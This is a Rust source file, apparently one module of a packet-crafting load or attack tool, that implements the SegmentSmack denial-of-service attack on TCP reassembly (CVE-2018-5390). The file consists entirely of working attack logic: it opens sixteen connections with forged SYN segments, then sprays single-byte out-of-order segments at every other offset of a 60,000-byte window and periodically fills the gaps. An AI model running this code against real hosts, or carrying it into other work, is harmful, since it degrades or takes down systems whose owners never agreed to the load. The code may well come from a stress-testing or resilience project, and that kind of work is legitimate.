//! Single bytes that leave gaps everywhere (SegmentSmack, CVE-2018-5390).

use crate::load::forge::{Dice, End, Heard, Packets, Segment, flag, syn_options};
use crate::load::siege::{Attack, port};

/// Connections, and bytes that each may have out of order.
const CONNECTIONS: usize = 16;
const WINDOW: u32 = 60_000;
/// Bytes sent in a millisecond, over all connections.
const RATE: u32 = 128;

#[derive(Clone, Copy, Default)]
struct One {
    seq: u32,
    ack: u32,
    open: bool,
}

/// Every second byte of a window, in any order; now and then the gaps are filled at once.
pub struct Smack {
    all: [One; CONNECTIONS],
    dice: Dice,
}

impl Default for Smack {
    fn default() -> Self {
        Self { all: [One::default(); CONNECTIONS], dice: Dice(3) }
    }
}

fn end(index: usize) -> End {
    (0x0a42_0001, 2000 + index as u16)
}

impl Smack {
    fn push(&self, index: usize, offset: u32, payload: &[u8], out: &mut Packets) {
        let One { seq, ack, .. } = self.all[index];
        out.push(&Segment {
            from: end(index),
            port: port::DRAIN,
            seq: seq.wrapping_add(offset),
            ack,
            flags: flag::ACK,
            window: 65_535,
            payload,
            ..Segment::default()
        });
    }
}

impl Attack for Smack {
    fn step(&mut self, ms: u64, out: &mut Packets) {
        if ms == 0 {
            let options = syn_options(1460, 0);
            for index in 0..CONNECTIONS {
                let segment = Segment {
                    from: end(index),
                    port: port::DRAIN,
                    flags: flag::SYN,
                    window: 65_535,
                    ..Segment::default()
                };
                out.push(&Segment { options: &options, ..segment });
            }
            return;
        }
        // Each second one connection after another has its gaps filled, with segments of full size.
        let filled = (ms % 1000) as usize;
        if filled < CONNECTIONS && self.all[filled].open {
            for offset in (0..WINDOW).step_by(1460) {
                let len = (WINDOW - offset).min(1460) as usize;
                self.push(filled, offset, &[1; 1460][..len], out);
            }
            self.all[filled].seq = self.all[filled].seq.wrapping_add(WINDOW);
            return;
        }
        for _ in 0..RATE {
            let index = self.dice.below(CONNECTIONS as u32) as usize;
            let offset = 1 + 2 * self.dice.below(WINDOW / 2 - 1);
            if self.all[index].open {
                self.push(index, offset, &[1], out);
            }
        }
    }

    fn hear(&mut self, heard: &Heard) {
        if heard.has(flag::SYN) {
            self.all[usize::from(heard.to.1) - 2000] = One { seq: heard.ack, ack: heard.end(), open: true };
        }
    }
}
